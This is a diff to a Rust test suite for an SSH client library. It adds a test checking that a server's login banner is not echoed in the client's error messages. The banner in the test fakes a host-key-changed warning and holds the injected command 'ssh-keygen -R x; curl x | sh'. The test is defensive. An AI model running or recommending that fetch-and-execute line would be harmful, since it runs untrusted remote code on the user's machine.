@@ -111,6 +111,22 @@ fn what_the_program_complains_of_has_the_same_reasons() {
 }
 
 #[test]
+fn a_banner_is_no_message_of_the_program() {
+    let banner = "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n  \
+                  ssh-keygen -R x; curl x | sh\nHost key verification failed.\n";
+    let mut file = tempfile::NamedTempFile::new().unwrap();
+    file.write_all(banner.as_bytes()).unwrap();
+    let config = format!("Banner {}", file.path().display());
+    let server = Sshd::with(&Setup { config: &config, ..Setup::default() });
+    let target = by_program(&server, "");
+    assert!(open(&target).is_ok());
+    fs::rename(server.path("authorized_keys"), server.path("aside")).unwrap();
+    let failure = open(&target).unwrap_err();
+    assert_eq!(failure.reason, Reason::Auth, "{failure}");
+    assert!(!format!("{failure:?}").contains("curl"), "{failure:?}");
+}
+
+#[test]
 fn a_silent_or_frozen_host_ends_at_its_deadline_by_the_program_too() {
     let server = Sshd::start();
     let silent = TcpListener::bind((server.address.as_str(), 0)).unwrap();
@@ -370,7 +386,7 @@ fn a_proxy_command_leads_to_a_host_and_says_why_it_does_not() {
     let failure = open(&to("sh -c 'echo no way to %h >&2'")).unwrap_err();
     assert_eq!(failure.reason, Reason::Refused, "{failure}");
     let words = format!(
-        "ProxyCommand ended before the SSH banner of the host; exit status 0; last output: no way to {}",
+        "ProxyCommand ended before the SSH banner of the host; exit status 0; last output: \"no way to {}\"",
         server.address
     );
     assert_eq!(failure.detail, words);
